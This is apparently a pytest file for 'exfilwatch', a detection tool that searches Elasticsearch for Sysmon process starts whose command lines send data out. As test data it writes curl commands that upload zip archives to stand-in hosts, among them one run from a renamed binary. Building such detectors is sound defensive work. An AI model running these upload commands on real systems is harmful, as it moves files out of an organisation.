"""Of starts of processes in a real search engine come those whose command lines do something; of starts that link
others, what tells of the process."""

import json

import msgspec
import pytest

from exfilwatch.detection.load import load
from exfilwatch.detection.starts import EVERY_START
from exfilwatch.detection.trees import TOLD
from exfilwatch.errors import SourceError
from exfilwatch.events.event import Origin
from exfilwatch.events.shape import recognise
from exfilwatch.rules.packs import pack
from exfilwatch.siem.elastic_looks import listed, looks
from exfilwatch.siem.elastic_starts import told
from exfilwatch.siem.queries.elastic_mapping import ElasticMapping, Indexed
from exfilwatch.siem.siem import SECOND, Ask, Clock, Near

NOON = 1_735_732_800 * SECOND
"""2025-01-01T12:00:00Z"""
CUT = {"type": "keyword", "ignore_above": 60}
SENDING = "curl.exe -T D:\\a.zip https://x.example/"
LINES = {
    "sends": SENDING,
    "sends to another": "curl.exe -T D:\\b.zip https://y.example/",
    "asks only": "curl.exe -sS https://x.example/health",
    "edits": '"C:\\Windows\\notepad.exe" C:\\notes.txt',
    "is too long to be indexed": f"curl.exe {'-H x ' * 20} -T D:\\a.zip https://x.example/",
}


def start(line: str, image: str = "C:\\Windows\\System32\\curl.exe", number: int = 1) -> dict[str, object]:
    """As winlogbeat has it."""
    return {
        "@timestamp": "2025-01-01T12:00:01Z",
        "event": {"code": "1", "provider": "Microsoft-Windows-Sysmon"},
        "host": {"name": "ws1", "os": {"family": "windows"}},
        "message": line,
        "process": {
            "command_line": line,
            "executable": image,
            "pid": 100 + number,
            "entity_id": f"{{6fe2d477-8b74-3a90-0001-{number:012}}}",
            "parent": {"pid": 4, "executable": "C:\\Windows\\explorer.exe", "command_line": "explorer.exe"},
        },
        "user": {"domain": "CORP", "name": "anna"},
        "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": "1", "record_id": number},
    }


def properties(line: dict[str, object]) -> dict[str, object]:
    return {"properties": {"process": {"properties": {"command_line": line}}}, "dynamic_templates": KEYWORDS}


KEYWORDS = [{"k": {"match_mapping_type": "string", "mapping": {"type": "keyword"}}}]


@pytest.fixture(scope="module")
def rules():
    return tuple(load([pack("exfil")]).rules)


def lines(records: list[bytes]) -> set[str]:
    return {name for name, line in LINES.items() for record in records if json.loads(record)["message"] == line}


@pytest.mark.parametrize(
    ("line", "also"),
    [
        pytest.param({"type": "keyword"}, set(), id="whole"),
        pytest.param(CUT, set(), id="cut"),
        pytest.param({"type": "text", "fields": {"keyword": CUT}}, set(), id="beside words"),
        pytest.param({"type": "keyword", "doc_values": False}, None, id="without values"),
        pytest.param({"type": "text"}, None, id="words only"),
    ],
)
def test_those_come_whose_lines_do_something(searching, rules, line, also):
    searching.create(mappings=properties(line))
    searching.put(start(text, number=number) for number, text in enumerate(LINES.values()))
    found = lines(searching.fetch(Ask(Clock.EVENT, NOON, NOON + 60 * SECOND, rules)))
    sends = {"sends", "sends to another", "is too long to be indexed"}
    assert sends <= found
    assert also is None or found == sends | also


def test_lines_of_other_times_are_of_no_matter(searching, rules):
    searching.create(mappings=properties({"type": "keyword"}))
    searching.put([start(SENDING)])
    assert searching.fetch(Ask(Clock.EVENT, NOON + 2 * SECOND, NOON + 60 * SECOND, rules)) == []


def test_a_program_under_another_name_is_known_by_the_name_in_its_file(searching, rules):
    searching.create(mappings=properties({"type": "keyword"}))
    renamed = start("x.exe -T D:\\a.zip https://x.example/", "C:\\x.exe")
    named = start("x.exe push D:\\a.zip", "C:\\x.exe") | {"n": 2}
    named["process"] = {**dict(named["process"]), "pe": {"original_file_name": "curl.exe"}}
    searching.put([renamed, named])
    records = [json.loads(each) for each in searching.fetch(Ask(Clock.EVENT, NOON, NOON + 60 * SECOND, rules))]
    assert [each["process"]["command_line"] for each in records if "n" not in each] == [renamed["message"]]


def test_more_lines_than_one_answer_has_are_read_page_by_page(searching, rules, monkeypatch):
    monkeypatch.setattr("exfilwatch.siem.elastic_looks._PAGE", 7)
    searching.create(mappings=properties({"type": "keyword"}))
    texts = [SENDING.replace("a.zip", f"{n}.zip") if n % 5 == 0 else f"notepad.exe {n}.txt" for n in range(40)]
    searching.put(start(text, number=n) for n, text in enumerate(texts))
    found = searching.fetch(Ask(Clock.EVENT, NOON, NOON + 60 * SECOND, rules))
    assert sorted(json.loads(each)["message"] for each in found) == sorted(texts[::5])


def test_starts_that_link_others_tell_all_that_is_asked_of_them(searching):
    searching.create(mappings=properties({"type": "keyword"}))
    linux = {
        "@timestamp": "2025-01-01T12:00:02Z",
        "event": {"category": "process", "type": "start"},
        "host": {"name": "ws1", "os": {"type": "linux"}},
        "process": {"command_line": "ls", "executable": "/bin/ls", "pid": 7, "parent": {"pid": 6}},
    }
    written = [start(SENDING), linux]
    searching.put(written)
    ask = Ask(Clock.EVENT, None, None, (EVERY_START,), (Near("ws1", NOON, NOON + 60 * SECOND),), starts=True)
    found = sorted(map(json.loads, searching.fetch(ask)), key=lambda record: record["@timestamp"])
    fields = ("Computer", *TOLD)
    for was, came in zip(written, found, strict=True):
        one, other = (_event(record) for record in (was, came))
        assert (one.category, one.time, one.id) == (other.category, other.time, other.id)
        assert [one.get(field) for field in fields] == [other.get(field) for field in fields]
    assert "parent" in found[0]["process"]
    assert "command_line" not in found[0]["process"]
    assert found[1] == linux


def child(number: int, of: object, **parent: object) -> dict[str, object]:
    """A start, by the GUID of its parent, or without."""
    made = start("x.exe", "C:\\x.exe", number)
    named = {"pid": 4, "executable": "C:\\y.exe", **({"entity_id": of} if of else {}), **parent}
    made["process"] = {**made["process"], "parent": named}  # type: ignore[dict-item]
    return made


GUID = "6fe2d477-8b74-3a90-0001-00000000000"


def test_starts_that_name_some_processes_are_found_by_guid_however_it_is_written(searching):
    searching.create(mappings=properties({"type": "keyword"}))
    upper = child(3, "{6FE2D477-8B74-3A90-0001-00000000000A}")
    none = child(5, "{00000000-0000-0000-0000-000000000000}")
    without = child(6, None)
    orphan = child(7, None)
    orphan["process"]["parent"] = {"executable": "C:\\y.exe"}
    linux = {
        "@timestamp": "2025-01-01T12:00:02Z",
        "event": {"category": "process", "type": "start"},
        "host": {"name": "ws1", "os": {"type": "linux"}},
        "process": {"command_line": "ls", "executable": "/bin/ls", "pid": 7, "parent": {"pid": 6}},
    }
    searching.put(
        [child(1, f"{GUID}9"), child(2, f"{{{GUID}1}}"), upper, child(4, f"{GUID}8"), none, without, orphan, linux]
    )
    day = Ask(Clock.EVENT, NOON, NOON + 60 * SECOND, (EVERY_START,), starts=True)
    near = (Near("ws1", NOON, NOON + 60 * SECOND),)

    def pids(**asked):
        found = map(json.loads, searching.fetch(msgspec.structs.replace(day, **asked)))
        return sorted(record["process"]["pid"] for record in found)

    assert pids(guids=(f"{GUID}1", f"{GUID}a")) == [101, 102, 103]
    assert pids(near=near, unnamed=True) == [7, 105, 106]


@pytest.mark.parametrize(
    ("ways", "asked"),
    [
        ([Indexed("process.entity_id", "keyword", 1024)], True),
        ([Indexed("process.entity_id", "text"), Indexed("process.entity_id.keyword", "keyword", 256)], True),
        ([Indexed("process.entity_id", "keyword", normalizer="lowercase")], False),
        ([Indexed("process.entity_id", "text")], False),
        ([], False),
    ],
    ids=["keyword", "beside words", "folded", "text", "not indexed"],
)
def test_which_indices_are_asked_by_guid(ways, asked):
    plain = ("winlog.channel", "event.code", "@timestamp", "process.parent.entity_id", "process.parent.pid")
    fields = {path: (Indexed(path, "keyword"),) for path in plain} | {"process.entity_id": tuple(ways)}
    found = told([ElasticMapping(fields)])
    assert found is not None
    assert (found.names is not None) is asked


def _event(record):
    shape = recognise(record)
    return shape.event(record, Origin("test"), json.dumps(record).encode())


def test_an_answer_without_lines_is_no_answer():
    with pytest.raises(SourceError, match="without what was asked for"):
        listed(b'{"hits": {"hits": []}}')


@pytest.mark.parametrize(
    ("ways", "tells"),
    [
        ([Indexed("process.command_line", "keyword")], True),
        ([Indexed("process.command_line", "keyword", 1024)], True),
        ([Indexed("process.command_line", "text"), Indexed("process.command_line.keyword", "keyword", 256)], True),
        ([Indexed("process.command_line", "keyword", normalizer="lowercase")], False),
        ([Indexed("process.command_line", "wildcard")], False),
        ([Indexed("process.command_line", "text")], False),
    ],
    ids=["keyword", "cut", "beside words", "folded", "wildcard", "text"],
)
def test_which_indices_tell_their_lines(ways, tells):
    fields = {"process.command_line": tuple(ways)} | {
        path: (Indexed(path, "keyword"),) for path in ("process.executable", "winlog.channel", "event.code")
    }
    assert (looks([ElasticMapping(fields)]) is not None) is tells
    assert (
        looks(
            [ElasticMapping(fields), ElasticMapping({"process.executable": (Indexed("process.executable", "text"),)})]
        )
        is None
    )
    beside = (Indexed("process.executable", "text"), Indexed("process.executable.keyword", "keyword"))
    assert looks([ElasticMapping(fields), ElasticMapping({"process.executable": beside})]) is None
